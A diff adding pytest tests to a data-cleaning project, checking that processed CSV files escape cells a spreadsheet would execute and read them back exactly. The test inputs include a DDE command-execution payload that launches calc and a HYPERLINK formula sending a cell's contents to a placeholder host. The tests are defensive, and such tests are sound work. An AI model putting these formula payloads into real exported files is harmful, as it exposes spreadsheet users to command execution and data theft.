@@ -347,3 +347,54 @@ def test_bad_run_parameters_are_one_clear_line(args, expected):
     )
     assert result.returncode == 2 and result.stdout == ""
     assert len(result.stderr.splitlines()) == 1 and result.stderr.startswith(expected), result.stderr
+
+
+# Spreadsheet-safe processed CSVs -----------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+cmd", "'+cmd"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("'=1", "''=1"),  # already quoted: one more quote, so that reading back is exact
+        ("'plain", "'plain"),
+        ("plain = text", "plain = text"),
+        ("", ""),
+    ],
+)
+def test_text_cells_that_a_spreadsheet_would_run_are_defused_and_restored(text, written):
+    from campaign.io import defuse_text, restore_text
+
+    assert defuse_text(text) == written
+    assert restore_text(written) == text
+
+
+def test_processed_csvs_are_spreadsheet_safe_and_read_back_exactly(registers_dir):
+    from campaign.clean import write_outputs
+    from campaign.io import read_observations
+
+    note = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    quoted = '"' + note.replace('"', '""') + '"'  # as CSV writes it
+    write_raw(
+        registers_dir,
+        "formula.csv",
+        [
+            f"中国,2022-12-31,microcredit_amount,933.5亿元,{SEED},@locator,{quoted}",
+            f"中国,2022-12-31,microcredit_amount_growth,-3%,{SEED},+p,-note",
+        ],
+    )
+    outputs = clean(registers_dir)
+    write_outputs(outputs, registers_dir / "processed")
+    written = (registers_dir / "processed" / "observations.csv").read_text(encoding="utf-8")
+    assert '"\'=HYPERLINK(""http://example.invalid' in written
+    assert ",'-3%," in written and ",'+p,'-note" in written and ",'@locator," in written
+    assert ",-0.03," in written  # a number stays a number
+    back = read_observations(registers_dir / "processed" / "observations.csv")
+    pd.testing.assert_frame_equal(back, outputs.observations, check_dtype=False)
+    rows = back.set_index("indicator")
+    assert rows.at["microcredit_amount", "note"] == note and rows.at["microcredit_amount_growth", "printed"] == "-3%"
